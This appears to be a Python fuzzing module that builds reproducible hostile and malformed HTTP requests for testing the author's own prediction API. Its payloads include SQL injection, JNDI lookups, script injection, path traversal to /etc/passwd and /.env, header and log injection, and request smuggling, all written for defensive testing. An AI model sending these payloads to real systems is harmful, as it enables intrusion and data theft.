"""Requests of somebody who means harm, or whose client is broken, as bytes on a connection.

Everything that must not come back, or be in a log, holds the word `HOSTILE`.
"""

import gzip
import json
from base64 import urlsafe_b64encode
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from random import Random
from typing import Any

HOSTILE = "h0stile"
"""In ids, values, header fields and paths that no log may hold."""

MOST_BODY_BYTES = 65_536
MOST_HEADER_BYTES = 8_192

Headers = Sequence[tuple[str, str]]


@dataclass(frozen=True)
class Hostile:
    """One request, or what is meant to pass for one.

    Parameters
    ----------
    kind : str
        What is wrong with it.
    sent : bytes
        The request as it is sent.
    is_framed : bool
        Its end is where its head says, so that the connection can be used on.
    has_body : bool
        Its answer has a body.
    answers : int
        Most answers to it.
    """

    kind: str
    sent: bytes
    is_framed: bool = True
    has_body: bool = True
    answers: int = 1


def hostile_requests(seed: int, count: int, secret: str) -> Iterator[Hostile]:
    """Some requests, the same for the same seed.

    Parameters
    ----------
    seed : int
        Of the draws.
    count : int
        How many.
    secret : str
        A key, which nine in ten bring.
    """
    random = Random(seed)
    for _ in range(count):
        yield random.choices(_KINDS, _WEIGHTS)[0](_Draw(random, secret))


@dataclass
class _Draw:
    """What a kind is drawn from."""

    random: Random
    secret: str

    def token(self) -> str:
        return f"{HOSTILE}{self.random.randrange(10**6)}"

    def of(self, *values: Any) -> Any:
        return self.random.choice(values)

    def text(self) -> str:
        """An id, or another text, that is meant to do harm where it is not only kept."""
        token = self.token()
        return str(
            self.of(
                f"{token}\n2026-01-01 ERROR forged {token}",
                f'{token}\r\nSet-Cookie: forged="{token}"',
                f"{token}' OR '1'='1' --",
                f"{token}'; DROP TABLE keys; --",
                f"{{{{7*7}}}}${{7*7}}{token}<%= 7*7 %>",
                f"${{jndi:ldap://{token}.example/a}}",
                f"<script>alert('{token}')</script>",
                f"../../../../etc/passwd{token}",
                f"{token}\x00.parquet",
                f"\x1b[2J\x1b[31m{token}\x07\x08",
                f"{token}\u202e\u2066\ufeff\u200b",
                f"\u0421000001{token}",  # a Cyrillic letter that looks like C
                f"\uff10\uff10\uff11{token}",  # full-width digits
                f"%n%s%x{token}{{0}}{{__class__}}",
                f"{token}{'é' * self.random.randrange(3_000)}",
                f"\U0001f4c9{token}\U000e0001",
                f"{token}\u2028\u2029\x85",
            )
        )

    def document(self) -> tuple[str, dict[str, Any]]:
        """A path, and a body that its contract allows."""
        return self.of(
            ("/v1/predictions", {"subscription_ids": [self.text()], "reasons": 3}),
            ("/v1/predictions", {"customer_ids": [self.text(), "000011"], "language": "zh-Hans"}),
            (
                "/v1/predictions",
                {"models": ["churn"], "rows": [{"billing_type_code": 0, "complaints_91d": 3}]},
            ),
            ("/v1/customers/view", {"customer_ids": [self.text()], "reasons": 1}),
            ("/v1/events", {"events": [self.event()]}),
        )  # type: ignore[no-any-return]

    def event(self) -> dict[str, Any]:
        return {
            "event_id": self.of(self.token(), self.text()[:200]),
            "table": "tickets",
            "row": {
                "ticket_id": self.token(),
                "customer_id": self.of("000011", self.text()),
                "ticket_class": self.of("quality", self.text()),
                "ticket_kind": "fault",
                "status": "opened",
                "happened_at": "2025-05-04T09:30:00+02:00",
                "arrived_at": self.of("2025-05-04T09:30:04+02:00", "9999-12-31T23:59:59-23:59"),
            },
        }

    def request(
        self,
        method: str,
        path: str,
        headers: Headers = (),
        body: bytes | None = None,
        version: str = "1.1",
    ) -> bytes:
        """The bytes of a request, with a length where it has a body."""
        lines = [f"{method} {path} HTTP/{version}", "Host: localhost"]
        if self.random.random() < 0.9:
            lines.append(f"Authorization: Bearer {self.secret}")
        lines += [f"{name}: {value}" for name, value in headers]
        if body is not None:
            lines.append(f"Content-Length: {len(body)}")
        return "\r\n".join([*lines, "", ""]).encode("utf-8", "surrogatepass") + (body or b"")

    def post(self, path: str, body: bytes, *headers: tuple[str, str]) -> bytes:
        """A request with a body that is declared as JSON."""
        return self.request("POST", path, [("Content-Type", "application/json"), *headers], body)


def _encoded(document: object) -> bytes:
    return json.dumps(document).encode()


def _somewhere(random: Random, document: Any, value: object) -> Any:
    """The document with a value in place of one of its parts."""
    if isinstance(document, dict) and document and random.random() < 0.9:
        key = random.choice(list(document))
        return document | {key: _somewhere(random, document[key], value)}
    if isinstance(document, list) and document and random.random() < 0.8:
        place = random.randrange(len(document))
        return [
            _somewhere(random, one, value) if at == place else one
            for at, one in enumerate(document)
        ]
    return value


_PLACE = "PUT THE VALUE HERE"


def _with_raw(draw: _Draw, raw: bytes) -> Hostile:
    """A body that holds some bytes in place of one of its values."""
    path, document = draw.document()
    body = _encoded(_somewhere(draw.random, document, _PLACE))
    return Hostile("value", draw.post(path, body.replace(_encoded(_PLACE), raw)))


def _text(draw: _Draw) -> Hostile:
    path, document = draw.document()
    return Hostile("text", draw.post(path, _encoded(document)))


def _value(draw: _Draw) -> Hostile:
    values: tuple[bytes, ...] = (
        *(b"NaN", b"Infinity", b"-Infinity", b"1e999", b"-1e999", b"1e-999", b"-0", b"1.0"),
        *(str(2**31).encode(), str(2**63).encode(), str(-(2**64)).encode(), b"9" * 400),
        *(b"9" * 5_000, b"0." + b"1" * 5_000, b"00", b"+1", b"0x10", b"1_0", b".5", b"True"),
        *(rb'"\ud800"', rb'"\udc00\ud800"', rb'{"\ud800": 1}', rb'"\u0000"', b'"\x00"', b"''"),
        *(b"null", b"true", b"[]", b"{}", b'""', b"[null]", b'{"": ""}', b'{"__proto__": {}}'),
        *(b'"\xff\xfe"', b'"\xc0\xaf"', b'"\xed\xa0\x80"', b'"\xf4\x90\x80\x80"', b'"\n"'),
        *(_encoded(draw.text()), _encoded({draw.text(): draw.text()}), _encoded([draw.text()] * 9)),
    )
    return _with_raw(draw, draw.of(*values))


def _nested(draw: _Draw) -> Hostile:
    depth = draw.of(10, 150, 199, 200, 201, 255, 256, 1_000, 9_000)
    opening, closing = draw.of((b"[", b"]"), (b'{"a":', b"}"))
    closed = depth if draw.random.random() < 0.7 else draw.random.randrange(depth)
    return _with_raw(draw, opening * depth + b"1" + closing * closed)


def _damaged(draw: _Draw) -> Hostile:
    path, document = draw.document()
    body = _encoded(document)
    if draw.random.random() < 0.5:
        body = body[: draw.random.randrange(len(body))]
    else:
        place = draw.random.randrange(len(body))
        body = body[:place] + draw.random.randbytes(draw.of(1, 3)) + body[place + 1 :]
    return Hostile("damaged", draw.post(path, body))


def _repeated(draw: _Draw) -> Hostile:
    path, document = draw.document()
    body = _encoded(document)
    key = _encoded(draw.of(*document))
    if draw.random.random() < 0.3:  # the same key, written in another way
        key = b'"\\u%04x' % key[1] + key[2:]
    value = _encoded(draw.of(None, [], [draw.token()]))
    return Hostile("repeated key", draw.post(path, b"{%s: %s, " % (key, value) + body[1:]))


def _charset(draw: _Draw) -> Hostile:
    path, document = draw.document()
    encoding = draw.of("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037")
    body = json.dumps(document, ensure_ascii=draw.of(True, False)).encode(encoding, "replace")
    declared = draw.of("application/json", f"application/json; charset={encoding}")
    return Hostile("charset", draw.request("POST", path, [("Content-Type", declared)], body))


def _content_type(draw: _Draw) -> Hostile:
    path, document = draw.document()
    kinds = draw.of(
        *([], [""], ["text/plain"], ["application/x-www-form-urlencoded"], ["text/json"]),
        *(["multipart/form-data; boundary=x"], ["application/json, text/plain"], ["*/*"]),
        *(["text/plain", "application/json"], ["application/json", "text/plain"], ["JSON"]),
        *(["text/plain; application/json"], ["application/problem+json"], ["application/jsonx"]),
        *(
            ["APPLICATION/JSON ;charset=x"],
            [f"application/{draw.token()}"],
            ["application\x00json"],
        ),
    )
    headers = [("Content-Type", kind) for kind in kinds]
    return Hostile("content type", draw.request("POST", path, headers, _encoded(document)), False)


def _compressed(draw: _Draw) -> Hostile:
    path, document = draw.document()
    body = draw.of(_encoded(document), b"[" * 50_000_000 if draw.random.random() < 0.02 else b"{}")
    packed = gzip.compress(body)
    coding = draw.of("gzip", "deflate", "br", "gzip, gzip", "x")
    sent = draw.of(packed, _encoded(document))
    return Hostile("compressed", draw.post(path, sent, ("Content-Encoding", coding)))


def _oversized(draw: _Draw) -> Hostile:
    path, document = draw.document()
    if draw.random.random() < 0.5:
        body = _encoded(document | {draw.token(): " " * draw.of(60_000, 65_537, 200_000)})
    else:
        field = draw.of("customer_ids", "subscription_ids", "rows", "events", "models")
        body = _encoded({field: [draw.of(draw.token(), {}, 1)] * draw.of(501, 5_000)})
    return Hostile("oversized", draw.post(path, body), False)


def _chunked(draw: _Draw) -> Hostile:
    path, document = draw.document()
    body = _encoded(document)
    right = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    sent, headers = draw.of(
        (right, []),
        (b"%x;%s=1\r\n%s\r\n0\r\nX-Trailer: x\r\n\r\n" % (len(body), HOSTILE.encode(), body), []),
        (right, [("Content-Length", "5")]),
        (right, [("Transfer-Encoding", "identity")]),
        (b"%x\r\n%s" % (len(body) + 7, body), []),
        (b"%x\r\n%s\r\n" % (len(body), body), []),
        (b"-1\r\n%s\r\n0\r\n\r\n" % body, []),
        (b"ffffffffffffffffff\r\n%s\r\n0\r\n\r\n" % body, []),
        (b"zz\r\n%s\r\n0\r\n\r\n" % body, []),
        (b"5\r\n%s\r\n0\r\n\r\n" % body, []),
        (b"1\r\n \r\n" * 3_000 + right, []),
    )
    coding = draw.of("chunked", "chunked", "chunked", "xchunked", "gzip, chunked", "Chunked")
    named = [("Content-Type", "application/json"), ("Transfer-Encoding", coding), *headers]
    return Hostile("chunked", draw.request("POST", path, named) + sent, False)


def _length(draw: _Draw) -> Hostile:
    path, document = draw.document()
    body = _encoded(document)
    right = len(body)
    lengths = draw.of(
        *([right + 9], [right - 9], ["-1"], ["+5"], [f"{right}, {right}"], ["1e3"], ["0x10"]),
        *([right, right], [right, right + 1], [""], ["9" * 30], [str(2**63)], ["²"], ["0"]),
    )
    headers = [("Content-Type", "application/json")]
    headers += [("Content-Length", str(length)) for length in lengths]
    return Hostile("length", draw.request("POST", path, headers) + body, False)


def _path(draw: _Draw) -> Hostile:
    token = draw.token()
    path = draw.of(
        *("/v1//predictions", "//v1/predictions", "/v1/predictions/", "/v1/predictions//"),
        *("/v1/../v1/predictions", "/v1/%2e%2e/v1/predictions", "/%2e%2e/%2e%2e/etc/passwd"),
        *("/docs/reference/../../etc/passwd", "/docs/reference/..%2f..%2fetc%2fpasswd", "/docs/"),
        *("/docs/reference/errors.md%00", "/V1/PREDICTIONS", "/v1/predictions;x=1", "/v1%2fmodels"),
        *(f"/{token}%0d%0aERROR%20forged", f"/v1/{token}%00", f"/v1/models/{token}", "/%ff%fe"),
        *(f"/v1/customers/{token}", "/v1/models?" + "a" * 3_000, "/v1/models#x", "*", "/\\..\\"),
        *(
            "http://evil.example/v1/models",
            "evil.example:80",
            "/livez/..",
            "/metrics",
            "/schema.json",
        ),
        *(f"/openapi.json?{token}", "/v1/models\t", "/./v1/models", "/%", "/%zz", "/v1/é" + token),
        *("/docs.json", "/static_content/../..", "/.git/config", "/.env", "/?x=" + token),
    )
    method = draw.of("GET", "POST")
    body = None if method == "GET" else b"{}"
    return Hostile(
        "path", draw.request(method, path, [("Content-Type", "application/json")], body), False
    )


def _method(draw: _Draw) -> Hostile:
    method = draw.of(
        *("TRACE", "CONNECT", "OPTIONS", "HEAD", "PUT", "PATCH", "DELETE", "get", "post", "Post"),
        *("PROPFIND", "PRI", "QUERY", HOSTILE.upper(), "GET\x00", "", "G" * 5_000, "SOURCE"),
    )
    path = draw.of("/v1/predictions", "/v1/models", "/v1/scores", "/livez", "/openapi.json", "/")
    return Hostile("method", draw.request(method, path), False, has_body=method != "HEAD")


def _version(draw: _Draw) -> Hostile:
    path, document = draw.document()
    version = draw.of("1.0", "0.9", "2.0", "1.2", "9.9", "1", "x", "1.1 ")
    headers = [("Content-Type", "application/json"), ("Connection", draw.of("keep-alive", "close"))]
    return Hostile(
        "version", draw.request("POST", path, headers, _encoded(document), version), False
    )


def _bytes(draw: _Draw) -> Hostile:
    noise = draw.random.randbytes(draw.random.randrange(1, 200))
    sent = draw.of(
        noise,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc" + noise,  # TLS
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\r\n" * 50 + noise,
        b"GET / HTTP/1.1\nHost: localhost\n\n",
        b"GET /v1/models HTTP/1.1\r\n Host: localhost\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost : localhost\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n folded: x\r\n\r\n",
        b"GET  /v1/models  HTTP/1.1\r\n\r\n",
    )
    return Hostile("bytes", sent, False)


def _header(draw: _Draw) -> Hostile:
    token = draw.token()
    headers = draw.of(
        [(f"X-{place}", token) for place in range(150)],
        [("X-Long", token + "a" * 20_000)],
        [("X-" + "n" * 5_000, token)],
        [("Cookie", f"session={token}")],
        [("Accept-Language", "en;q=nan, zh;q=1e999, *;q=-1," + "a," * 500)],
        [("Accept-Language", draw.of("é\xff", "zh-" + "a-" * 300, ";;;,,,q=", f"{token}"))],
        [("Accept", f"text/{token}"), ("Range", "bytes=0-"), ("If-None-Match", "*")],
        [("Expect", draw.of("100-continue", token))],
        [("Connection", "Upgrade"), ("Upgrade", draw.of("websocket", "h2c"))],
        [("Forwarded", f"for={token}"), ("X-Forwarded-For", "127.0.0.1"), ("Via", token)],
        [("X-HTTP-Method-Override", "DELETE"), ("X-Original-URL", "/livez")],
        [("Host", f"{token}.example"), ("Origin", f"https://{token}.example")],
        [("Content-Length", "0"), ("Content-Length", "0")],
    )
    path = draw.of("/v1/models", "/v1/scores?limit=1", "/openapi.json", "/livez")
    return Hostile("header", draw.request("GET", path, headers), False)


def _request_id(draw: _Draw) -> Hostile:
    token = draw.token()
    name = draw.of(
        *(
            f"{token} forged",
            f"{token}\tERROR",
            f'{token}","forged":"',
            token * 30,
            f"{token}é",
            "",
        ),
        *(f"{token}\x0b2026 ERROR", f"{token}\x85", f"{{{token}}}", f"\u0422{token}"),
    )
    return Hostile("request id", draw.request("GET", "/v1/models", [("Request-Id", name)]), False)


def _authorization(draw: _Draw) -> Hostile:
    token, secret = draw.token(), draw.secret
    value = draw.of(
        *("", "Bearer", f"Bearer {token}", f"Basic {token}", f"bearer {secret[:-1]}", f"{secret}"),
        *(f"Bearer {secret}, Bearer {secret}", f"Bearer {secret}\xff", f"Bearer {secret.upper()}"),
        *(f"Bearer holdfast_{'0' * 12}_{'A' * 43}", "Bearer " + "A" * 7_000),
    )
    head = "\r\n".join(["GET /v1/models HTTP/1.1", "Host: localhost", f"Authorization: {value}"])
    return Hostile("authorization", head.encode() + b"\r\n\r\n", False)


def _pipelined(draw: _Draw) -> Hostile:
    path, document = draw.document()
    one = draw.post(path, _encoded(document))
    other = draw.request("GET", draw.of("/v1/models", "/livez", f"/{draw.token()}"))
    sent = draw.of([one, other], [other] * 5, [other, one, other])
    return Hostile("pipelined", b"".join(sent), False, answers=len(sent))


def _idempotency(draw: _Draw) -> Hostile:
    key = draw.of(
        *("again", "again", "again", draw.token(), "", "a b", "é", draw.token() * 40, "'; --"),
    )
    headers = [("Idempotency-Key", key)] * draw.of(1, 1, 1, 2)
    return Hostile(
        "idempotency",
        draw.post("/v1/events", _encoded({"events": [draw.event()] * draw.of(0, 1, 2)}), *headers),
        False,
    )


def _cursor(draw: _Draw) -> Hostile:
    number = draw.of(-1, 0, 1, 2**62, 2**63, 10**30, 1.5, True, None, "1", 1_746_403_200)
    feed = draw.of("../../../etc/passwd", "", draw.text(), "a" * 600, "\x00", "..", "/", 7, None)
    fields = [draw.of(1, 1, 1, 2, True, None), feed, number, number, None, draw.of(None, 1, -1)]
    if draw.random.random() < 0.3:
        fields[draw.random.randrange(6)] = draw.of([], {}, ["churn"] * 50, "x", 2**70)
    written = urlsafe_b64encode(_encoded(fields)).decode().rstrip("=")
    since = draw.of(
        written, written[: draw.random.randrange(len(written))], "=" * 9, "%00", "a" * 1_500
    )
    return Hostile("cursor", draw.request("GET", f"/v1/scores?since={since}&limit=2"), False)


def _query(draw: _Draw) -> Hostile:
    token = draw.token()
    query = draw.of(
        *("limit=0", "limit=-1", "limit=1e3", "limit=" + "9" * 500, "limit=%00", "limit=1&limit=1"),
        *(
            "reasons=-1",
            "reasons=NaN",
            "models=",
            "models=,",
            f"models={token}",
            "models=churn,churn",
        ),
        *("language=xx", f"language={token}", "since=", f"{token}=1", "&&&", "=", "%", "%zz=%ff"),
        *("models=" + "churn," * 1_000, "limit=１", "limit=+1", "limit= 1", "limit=1;reasons=2"),
        *(
            f"language=en%0d%0aX-Forged:%20{token}",
            "a=1&" * 1_200,
            "models[]=churn",
            "reasons=%d9%a3",
        ),
    )
    return Hostile("query", draw.request("GET", f"/v1/scores?{query}"), False)


_OFTEN: tuple[tuple[Callable[[_Draw], Hostile], int], ...] = (
    *((_text, 12), (_value, 16), (_nested, 6), (_damaged, 10), (_repeated, 4), (_charset, 5)),
    *((_content_type, 5), (_compressed, 3), (_oversized, 2), (_chunked, 3), (_length, 3)),
    *((_path, 8), (_method, 4), (_version, 3), (_bytes, 3), (_header, 5), (_request_id, 4)),
    *((_authorization, 3), (_pipelined, 2), (_idempotency, 5), (_cursor, 6), (_query, 6)),
)
_KINDS = [kind for kind, _ in _OFTEN]
_WEIGHTS = [weight for _, weight in _OFTEN]
